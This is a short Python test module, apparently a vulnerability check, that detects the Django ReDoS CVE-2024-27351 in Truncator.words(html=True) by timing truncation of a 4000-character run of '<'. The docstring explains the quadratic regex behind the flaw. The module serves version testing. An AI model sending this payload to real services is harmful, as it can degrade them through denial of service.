"""CVE-2024-27351 (django 5.0.2 -> 5.0.3): ReDoS in ``Truncator.words(html=True)``.

Before 5.0.3 word truncation of HTML searched with ``<[^>]+?>|([^<>\\s]+)``; on text made of many
``<`` and no ``>`` each search position scans to the end of the text: quadratic time (16k
characters take about a second). 5.0.3 replaces the module global ``re_words`` with a linear
search. The check times ``words(3, html=True)`` on 4000 ``<`` through a ``Truncator`` built in
``prepare()`` (after ``settings.configure()``, as a service would have done): about 70 ms before
the fix, well under 1 ms after. It is exploited only if the best of three runs exceeds 15 ms,
and stops at the first fast run.
"""

from __future__ import annotations

import time

from django.conf import settings
from django.utils.text import Truncator

_TEXT = "<" * 4000
_THRESHOLD_S = 0.015


def prepare() -> object:
    if not settings.configured:
        settings.configure(USE_I18N=False)
    return Truncator(_TEXT)


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, Truncator)
    for _ in range(3):
        start = time.perf_counter()
        out = ctx.words(3, html=True)
        if time.perf_counter() - start < _THRESHOLD_S:
            if out != _TEXT:
                raise RuntimeError("text without words must come back unchanged")
            return False
    return True
